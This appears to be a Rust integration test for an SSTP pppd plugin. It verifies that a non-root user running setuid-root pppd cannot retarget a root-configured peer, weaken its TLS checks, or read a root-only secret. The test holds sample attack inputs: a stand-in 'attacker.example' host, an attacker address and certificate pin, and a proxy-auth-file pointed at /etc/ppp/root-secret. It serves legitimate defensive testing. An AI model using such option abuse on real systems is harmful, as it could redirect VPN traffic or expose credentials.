//! pppd's privilege model for the plugin's options, with the REAL setuid-root pppd 2.4.9 run by
//! a non-root user in group `dip` (uid `nobody` + supplementary group `dip`), in the UML test bed.
//!
//! The option checks run against pppd 2.5.2 too (a setuid-root copy of the one built by
//! `cargo xtask pppd25`). A root-owned peers file `/etc/ppp/peers/work` loads the plugin and points at sstpd. The
//! caller may use that peer (the session comes up), may tune what root left open, but cannot
//! change where it connects, what it trusts or the proxy (pppd: "... requires root privilege"),
//! cannot override what root fixed ("... cannot be overridden"), and cannot make the plugin read
//! a root-only file (opened with the caller's rights: "Permission denied", nothing more). A
//! listener standing in for the attacker's server/proxy must see no connection. Root still can.
//! See plugin/OPTIONS.md, "Who may set which option".

use std::path::Path;
use std::time::Duration;

use integration_tests::plugin::{self, Pppd};
use integration_tests::scenario::{self, parse_facts};
use integration_tests::testbed;

/// Options only a privileged source may give, each with a value the attacker would use.
const ROOT_ONLY: &[(&str, &str)] = &[
    ("sstp-server", "192.0.2.2:4444"),
    ("sstp-ca-file", "/etc/ssl/certs/ca-certificates.crt"),
    ("sstp-ca-dir", "/etc/ssl/certs"),
    ("sstp-cert-pin", "sha256:$ATTACKER_PIN"),
    ("sstp-sni", "attacker.example"),
    ("sstp-proxy", "http://192.0.2.2:4444"),
    ("sstp-tls-min", "1.0"),
    ("sstp-tls-max", "1.2"),
    ("sstp-no-eku-check", ""),
    ("sstp-cert-accept-untrusted", ""),
    ("sstp-ipc-fd", "5"),
    ("sstp-proxy-auth-fd", "5"),
];

/// The root-owned secret the caller tries to make the plugin read.
const ROOT_SECRET: &str = "admin:TopSecret-Root-Only";

fn script(so: &Path, so25: &Path, server: &Path) -> String {
    let mut s = format!(
        r#"
. /run/bed/sstp-scenario.sh
SO={so}
SERVER={server}
SO25={so25}
PPPD25={pppd25}
PPPD=/usr/sbin/pppd
sc_net_up || exit 1
sc_pki || exit 1
sc_server_start || exit 1
pki=$SC_WORK/pki
# The "attacker's" server and proxy: a listener that reports any connection it gets.
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
    -subj "/CN=attacker" -keyout "$pki/attacker.key" -out "$pki/attacker.pem" 2>/dev/null || exit 1
ATTACKER_PIN=$(openssl x509 -in "$pki/attacker.pem" -outform der | sha256sum | cut -d' ' -f1)
ip netns exec srv "$SERVER" --listen 192.0.2.2:4444 --cert "$pki/attacker.pem" \
    --key "$pki/attacker.key" --once >"$SC_OUT/attacker.out" 2>"$SC_OUT/attacker.err" &
echo $! >"$SC_WORK/attacker.pid"
SC_PORT=4444 sc_wait 20 sc_server_listening || {{ echo "attacker listener did not start"; exit 1; }}

# Root's configuration: a peer any member of dip may dial, and a root-only secret.
peer_common="plugin $SO
sstp-ca-file $SC_OUT/ca.pem
sstp-log-level 2
user $SC_USER
noauth
noccp
nobsdcomp
nodeflate
refuse-pap
refuse-chap
refuse-eap
nodefaultroute
noipdefault
lcp-echo-interval 0
nodetach
debug"
# write_peers <peers dir> <plugin>: the two root-owned peers files (root:dip 0640, as Debian's).
write_peers() {{
    d=$1; so=$2
    printf '%s\nsstp-server %s:%s\nlogfile %s\n' "$(echo "$peer_common" | sed "s|^plugin .*|plugin $so|")" \
        "$SC_SERVER_NAME" "$SC_PORT" "$SC_OUT/work.log" >"$d/work"
    printf '%s\nsstp-server %s:%s\nsstp-proxy http://%s:3128\n' \
        "$(echo "$peer_common" | sed "s|^plugin .*|plugin $so|")" "$SC_SERVER_NAME" "$SC_PORT" \
        "$SC_SERVER_V4" >"$d/work-proxy"
    chown root:dip "$d/work" "$d/work-proxy"
    chmod 640 "$d/work" "$d/work-proxy"
}}
write_peers /etc/ppp/peers "$SO"
# pppd 2.5.2 (built with its own prefix): a setuid-root copy in tmpfs, its etc/ppp in tmpfs.
mkdir -p /tmp/p25 && cp "$PPPD25" /tmp/p25/pppd && chown root:dip /tmp/p25/pppd && chmod 4754 /tmp/p25/pppd
# Its configuration directory as compiled in (the build's prefix, wherever it was built).
etc25=$(strings "$PPPD25" | sed -n 's|^\(/.*/etc/ppp\)/options$|\1|p' | head -n 1)
[ -d "$etc25" ] || {{ echo "pppd 2.5.2's etc/ppp not found (${{etc25:-none}})"; exit 1; }}
mount -t tmpfs -o mode=755 tmpfs "$etc25" || exit 1
mkdir -p "$etc25/peers" && chown root:dip "$etc25/peers" && chmod 2750 "$etc25/peers"
: >"$etc25/options"
write_peers "$etc25/peers" "$SO25"
printf '%s\n' '{secret}' >/etc/ppp/root-secret
chmod 600 /etc/ppp/root-secret
printf 'nobody-user\nnobody-pass\n' >/tmp/nobody-cred
chown nobody /tmp/nobody-cred
chmod 600 /tmp/nobody-cred
sc_fact setup_done 1

# try <tag> root|nobody <pppd arguments...>: runs pppd, records its exit status and output.
try() {{
    tag=$1; who=$2; shift 2
    if [ "$who" = nobody ]; then
        setpriv --reuid=65534 --regid=65534 --groups=30 -- "$PPPD" "$@" >"$SC_OUT/p-$tag.out" 2>&1 5<"$SC_WORK/fd5" &
    else
        "$PPPD" "$@" >"$SC_OUT/p-$tag.out" 2>&1 5<"$SC_WORK/fd5" &
    fi
    pid=$!
    if sc_wait 30 sc_not_running $pid; then sc_fact "ended_$tag" 1; else sc_fact "ended_$tag" 0; kill -KILL $pid; fi
    wait $pid
    sc_fact "exit_$tag" $?
}}
printf 'fd-user\nfd-pass\n' >"$SC_WORK/fd5"
"#,
        so = testbed::shell_quote(&so.to_string_lossy()),
        server = testbed::shell_quote(&server.to_string_lossy()),
        so25 = testbed::shell_quote(&so25.to_string_lossy()),
        pppd25 = testbed::shell_quote(&Pppd::V252.binary().to_string_lossy()),
        secret = ROOT_SECRET,
    );
    // The option checks, once per pppd version (tags of 2.5.2 start with "v25_").
    for (pfx, pppd) in [("", "/usr/sbin/pppd"), ("v25_", "/tmp/p25/pppd")] {
        s.push_str(&format!("PPPD={pppd}\n"));
        for (i, (opt, val)) in ROOT_ONLY.iter().enumerate() {
            s.push_str(&format!(
                "try {pfx}priv{i} nobody call work {opt} {val} dryrun\n\
                 try {pfx}root{i} root call work-proxy {opt} {val} dryrun\n"
            ));
        }
        s.push_str(&format!(
            r#"
# Fixed by root: the caller may set what root left open, not change what root set.
try {pfx}fixed nobody call work sstp-log-level 4 dryrun
try {pfx}open nobody call work sstp-connect-timeout 5 sstp-http-timeout 9 dryrun
# Files: opened with the caller's rights.
try {pfx}rootfile nobody call work-proxy sstp-proxy-auth-file /etc/ppp/root-secret dryrun
try {pfx}ownfile nobody call work-proxy sstp-proxy-auth-file /tmp/nobody-cred dryrun
try {pfx}rootfile_root root call work-proxy sstp-proxy-auth-file /etc/ppp/root-secret dryrun
# Serial-line options change nothing: anyone may give them (even tty.c's root-only nolock);
# work-proxy has no logfile, so the log lines reach the output.
try {pfx}tty nobody call work-proxy lock crtscts modem 115200 nolock dryrun
"#
        ));
    }
    s.push_str(
        r#"
PPPD=/usr/sbin/pppd
# The attacks as reported, without dryrun: nothing may reach the attacker's listener.
try attack_server nobody call work sstp-server 192.0.2.2:4444 sstp-cert-pin "sha256:$ATTACKER_PIN"
try attack_proxy nobody call work sstp-proxy http://192.0.2.2:4444 sstp-proxy-auth-file /etc/ppp/root-secret
# The caller can still use the root-configured peer: a real session through the setuid pppd.
setpriv --reuid=65534 --regid=65534 --groups=30 -- "$PPPD" call work sstp-connect-timeout 10 \
    >"$SC_OUT/p-session.out" 2>&1 &
SC_CLIENT_PID=$!
if sc_wait 30 sc_ppp_up_or_client_gone && sc_ppp_up; then
    sc_fact session_up 1
    sc_fact session_if "$(sc_ppp_if)"
    ping -c 3 -i 0.2 -W 2 "$SC_PPP_SERVER" >"$SC_OUT/ping.out" 2>&1
    sc_fact session_ping $?
    sc_fact session_euid "$(awk '/^Uid:/ { print $3 }' /proc/$SC_CLIENT_PID/status)"
else
    sc_fact session_up 0
fi
kill -TERM $SC_CLIENT_PID 2>/dev/null
sc_wait 15 sc_not_running $SC_CLIENT_PID || kill -KILL $SC_CLIENT_PID
wait $SC_CLIENT_PID
sc_fact exit_session $?
# Did anything reach the attacker? (--once prints "outcome:" for a connection it served.)
kill -TERM "$(cat "$SC_WORK/attacker.pid")" 2>/dev/null
sleep 0.2
# (every connection logs "sstp-test-server[N] ..." lines; --once prints "outcome:")
sc_fact attacker_contacted "$(cat "$SC_OUT/attacker.out" "$SC_OUT/attacker.err" | grep -c -e '^outcome' -e '^sstp-test-server\[')"
sc_server_stop
exit 0
"#,
    );
    s
}

#[test]
fn non_root_callers_cannot_retarget_weaken_or_read_through_a_root_peer() {
    if testbed::skip_testbed(&["/usr/bin/setpriv"]) {
        return;
    }
    let so = plugin::build_plugin(Pppd::V249, true, "sstp-rs-privilege.so").expect("plugin");
    plugin::ensure_pppd25().expect("pppd 2.5.2");
    let so25 = plugin::build_plugin(Pppd::V252, true, "sstp-rs-privilege.so").expect("plugin");
    let server = plugin::build_test_server().expect("sstp-test-server");
    let script = script(&so, &so25, &server);
    let Some(run) = scenario::run_script(&script, Duration::from_secs(300)) else {
        return;
    };
    let facts = parse_facts(&run.output);
    let fact = |k: &str| facts.get(k).cloned().unwrap_or_default();
    let out = |tag: &str| run.read(&format!("p-{tag}.out")).unwrap_or_default();
    let diag = format!("{}\n--- facts ---\n{facts:?}", run.diagnostics());
    assert!(run.success(), "{diag}");
    assert_eq!(fact("setup_done"), "1", "{diag}");

    let mut problems = Vec::new();
    let mut expect = |tag: &str, exit: i32, has: &[&str], lacks: &[&str]| {
        let o = out(tag);
        if fact(&format!("ended_{tag}")) != "1" {
            problems.push(format!("{tag}: pppd did not end"));
        }
        let got = fact(&format!("exit_{tag}"));
        if got != exit.to_string() {
            problems.push(format!("{tag}: exit {got}, expected {exit}\n{o}"));
        }
        for h in has {
            if !o.contains(h) {
                problems.push(format!("{tag}: output lacks {h:?}\n{o}"));
            }
        }
        for l in lacks {
            if o.contains(l) {
                problems.push(format!("{tag}: output shows {l:?}\n{o}"));
            }
        }
    };
    for pfx in ["", "v25_"] {
        for (i, (opt, _)) in ROOT_ONLY.iter().enumerate() {
            let refused = format!("using the {opt} option requires root privilege");
            expect(&format!("{pfx}priv{i}"), 2, &[refused.as_str()], &[]);
            expect(
                &format!("{pfx}root{i}"),
                0,
                &[],
                &["requires root privilege"],
            );
        }
        expect(
            &format!("{pfx}fixed"),
            2,
            // pppd 2.5.2 prints a dangling pointer as the file's name; 2.4.9 names the file.
            &["sstp-log-level option set in ", " cannot be overridden"],
            &[],
        );
        expect(&format!("{pfx}open"), 0, &[], &["sstp-rs:"]);
        expect(
            &format!("{pfx}rootfile"),
            2,
            &["sstp-proxy-auth-file: /etc/ppp/root-secret: cannot open: Permission denied"],
            &["TopSecret", "owned by", "mode 0", "admin"],
        );
        expect(&format!("{pfx}ownfile"), 0, &[], &["sstp-rs:"]);
        expect(&format!("{pfx}rootfile_root"), 0, &[], &["sstp-rs:"]);
        expect(
            &format!("{pfx}tty"),
            0,
            &["sstp-rs: option nolock ignored: SSTP has no serial line"],
            &["requires root privilege", "unrecognized option"],
        );
    }
    expect(
        "attack_server",
        2,
        &["using the sstp-server option requires root privilege"],
        &[],
    );
    expect(
        "attack_proxy",
        2,
        &["using the sstp-proxy option requires root privilege"],
        &["TopSecret"],
    );
    expect(
        "fixed",
        2,
        &["sstp-log-level option set in /etc/ppp/peers/work cannot be overridden"],
        &[],
    );
    assert!(problems.is_empty(), "{}\n\n{diag}", problems.join("\n"));
    assert_eq!(fact("attacker_contacted"), "0", "{diag}");

    // The dip member's own session through the setuid pppd works (pppd runs with euid 0).
    assert_eq!(fact("session_up"), "1", "{}\n{diag}", out("session"));
    assert_eq!(fact("session_ping"), "0", "{diag}");
    assert_eq!(fact("session_euid"), "0", "{diag}");
    assert_eq!(fact("exit_session"), "5", "{}\n{diag}", out("session"));
    eprintln!(
        "privilege: {} root-only options refused for uid nobody and accepted for root \
         (pppd 2.4.9 and 2.5.2); guest command {:?}",
        ROOT_ONLY.len(),
        run.command_time
    );
}
